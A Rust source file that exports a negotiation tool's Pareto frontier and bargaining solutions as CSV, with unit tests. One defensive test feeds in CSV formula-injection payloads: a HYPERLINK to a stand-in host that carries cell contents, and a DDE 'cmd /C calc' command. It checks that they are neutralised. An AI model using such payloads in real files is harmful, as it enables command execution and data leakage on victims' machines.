//! The Pareto frontier and the marked packages as CSV, for people who analyse elsewhere: one
//! row per package with the option chosen on every issue and every party's value. Pure.

use super::csv::{number, quote};
use crate::analysis::plan::{package_values, PlanProblem};
use crate::analysis::Analysis;
use crate::model::Plan;

/// Rows: the reference points (max joint gain, Nash, Kalai–Smorodinsky, equal gain), every
/// frontier point (one package per point; `Packages` says how many packages share its
/// values), then the plan's own packages (open issues left blank).
pub fn export(plan: &Plan, pp: &PlanProblem, analysis: &Analysis) -> String {
    let problem = &pp.problem;
    let issues = problem.issues.len();
    let mut out = String::new();
    let mut header = vec!["Kind".to_string(), "Name".to_string()];
    header.extend((0..issues).map(|i| problem.issue_name(i)));
    header
        .extend((0..problem.parties.len()).map(|k| format!("Value for {}", problem.party_name(k))));
    header.push("Joint value".into());
    header.push("Packages".into());
    push_row(&mut out, &header);

    let mut row =
        |kind: &str, name: &str, package: &[Option<usize>], values: &[f64], count: String| {
            let mut cells = vec![kind.to_string(), name.to_string()];
            cells.extend(
                package
                    .iter()
                    .enumerate()
                    .map(|(i, o)| o.map_or(String::new(), |o| problem.option_label(i, o))),
            );
            cells.extend(values.iter().map(|v| number(*v)));
            cells.push(number(values.iter().sum()));
            cells.push(count);
            push_row(&mut out, &cells);
        };
    let points = &analysis.points;
    for (kind, point) in [
        ("Max joint gain", &points.max_joint),
        ("Nash bargaining solution", &points.nash),
        ("Kalai–Smorodinsky", &points.kalai_smorodinsky),
        ("Equal gain", &points.equal_gain),
    ] {
        if let Some(p) = point {
            let package: Vec<Option<usize>> = p.package.iter().copied().map(Some).collect();
            row(kind, "", &package, &p.values, String::new());
        }
    }
    let kind = if analysis.frontier.is_exact() {
        "Frontier"
    } else {
        "Frontier (approximate)"
    };
    for k in 0..analysis.frontier.len() {
        let package: Vec<Option<usize>> =
            analysis.frontier.package(k).into_iter().map(Some).collect();
        let count = analysis.frontier.count(k).to_string();
        row(
            kind,
            &format!("Point {}", k + 1),
            &package,
            &analysis.frontier.values(k),
            count,
        );
    }
    for package in &plan.packages {
        let indices = pp.package_indices(package);
        row(
            "Your package",
            &package.name,
            &indices,
            &package_values(plan, package),
            String::new(),
        );
    }
    out
}

fn push_row(out: &mut String, cells: &[String]) {
    let line: Vec<String> = cells.iter().map(|c| quote(c)).collect();
    out.push_str(&line.join(","));
    // CRLF, as RFC 4180 and spreadsheet programs expect.
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::{analyze, FrontierOptions};
    use crate::model::{supplier_contract, PlanId};

    #[test]
    fn the_supplier_frontier_exports_with_every_value() {
        let plan = supplier_contract(PlanId::parse("p1").unwrap(), 0);
        let pp = PlanProblem::from_plan(&plan);
        let a = analyze(&pp.problem, &FrontierOptions::default()).unwrap();
        let csv = export(&plan, &pp, &a);
        let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
        assert_eq!(
            lines[0],
            "Kind,Name,\"Price per 1,000 bags\",Delivery time,Payment terms,Contract length,\
             Volume commitment,Warranty on the film,Value for Northfield Bakeries (buyer),\
             Value for Verpa Packaging (supplier),Joint value,Packages"
        );
        let frontier: Vec<&&str> = lines
            .iter()
            .filter(|l| l.starts_with("Frontier,"))
            .collect();
        assert_eq!(frontier.len(), a.frontier.len());
        assert!(lines
            .iter()
            .any(|l| l.starts_with("Nash bargaining solution,,")));
        // Every frontier row's values are the values of the options it lists.
        let model = &a.model;
        for (k, line) in frontier.iter().enumerate() {
            let v = model.value(&a.frontier.package(k)).unwrap();
            let cells: Vec<&str> = line.rsplit(',').collect();
            // …, buyer value, supplier value, joint, count (reversed).
            assert_eq!(cells[3], number(v[0]), "{line}");
            assert_eq!(cells[2], number(v[1]), "{line}");
        }
        let draft = lines
            .iter()
            .find(|l| l.starts_with("Your package,Draft: short and flexible,"))
            .unwrap();
        assert!(
            draft.contains(",€130,10 days,Net 60,1 year,None,12 months,"),
            "{draft}"
        );
    }

    #[test]
    fn open_issues_are_blank_and_names_are_quoted() {
        let mut plan = supplier_contract(PlanId::parse("p1").unwrap(), 0);
        plan.packages[0].name = "=cmd, \"x\"".into();
        let first = plan.issues[0].id.clone();
        plan.packages[0].choices.remove(&first);
        let pp = PlanProblem::from_plan(&plan);
        let a = analyze(&pp.problem, &FrontierOptions::default()).unwrap();
        let csv = export(&plan, &pp, &a);
        assert!(
            csv.contains("Your package,\"'=cmd, \"\"x\"\"\",,10 days,"),
            "{csv}"
        );
    }

    #[test]
    fn a_hostile_plan_gives_no_live_formula() {
        let mut plan = supplier_contract(PlanId::parse("p1").unwrap(), 0);
        let leads = ["=", "+", "-", "@", "\t", "\r", " =", "\u{0}@"];
        for (k, issue) in plan.issues.iter_mut().enumerate() {
            issue.name = format!("{}SUM(1+1)*{k}", leads[k % leads.len()]);
            for (o, option) in issue.options.iter_mut().enumerate() {
                option.label = format!(
                    "{}HYPERLINK(\"https://x.example/\"&A{o})",
                    leads[o % leads.len()]
                );
            }
        }
        for (k, party) in plan.parties.iter_mut().enumerate() {
            party.name = format!("{}cmd|' /C calc'!A{k}", leads[(k + 3) % leads.len()]);
        }
        for (k, package) in plan.packages.iter_mut().enumerate() {
            package.name = format!("{}1+{k}", leads[(k + 5) % leads.len()]);
        }
        let pp = PlanProblem::from_plan(&plan);
        let a = analyze(&pp.problem, &FrontierOptions::default()).unwrap();
        let csv = export(&plan, &pp, &a);
        assert!(csv.contains("'=SUM(1+1)*0"), "{csv:.300}");
        assert_eq!(crate::formats::csv::live_cells(&csv), Vec::<String>::new());
    }
}
